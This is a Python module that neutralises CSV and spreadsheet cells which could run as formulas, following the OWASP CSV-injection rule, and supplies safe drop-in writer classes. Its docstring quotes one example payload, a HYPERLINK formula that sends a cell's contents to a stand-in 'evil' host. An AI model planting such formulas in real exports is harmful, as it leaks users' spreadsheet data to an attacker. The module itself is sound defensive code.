"""CSV (and spreadsheet) cells that cannot run as formulas: the one place every writer goes through.

A planner opens a download in Excel or LibreOffice; a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is read as a formula there, so an imported bibliography title
like ``=HYPERLINK("http://evil/?"&A1, "click")`` would run in their sheet. Following the OWASP
rule, such a cell gets a leading apostrophe (shown as text, never evaluated). Plain numbers
(``-3``, ``+1.5``) are left alone so figures stay numbers.

Use :func:`writer` / :class:`DictWriter` instead of :mod:`csv`'s, and :func:`neutralise` for
cells written any other way (openpyxl). ``tests/test_csv_safety.py`` fails if a module writes
CSV without them.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

#: First characters a spreadsheet treats as the start of a formula (OWASP CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """The value, with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and \
            not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """Undo :func:`neutralise` on a cell read back from a sheet we wrote (round trip)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in row]


class _SafeWriter:
    """``csv.writer`` whose rows are neutralised first (same interface)."""

    def __init__(self, f: Any, *args: Any, **kwargs: Any) -> None:
        self._w = csv.writer(f, *args, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    @property
    def dialect(self) -> Any:
        return self._w.dialect


def writer(f: Any, *args: Any, **kwargs: Any) -> _SafeWriter:
    """Drop-in for :func:`csv.writer` that neutralises formula-leading cells."""
    return _SafeWriter(f, *args, **kwargs)


class DictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """Drop-in for :class:`csv.DictWriter` that neutralises formula-leading cells."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for r in rowdicts:
            self.writerow(r)
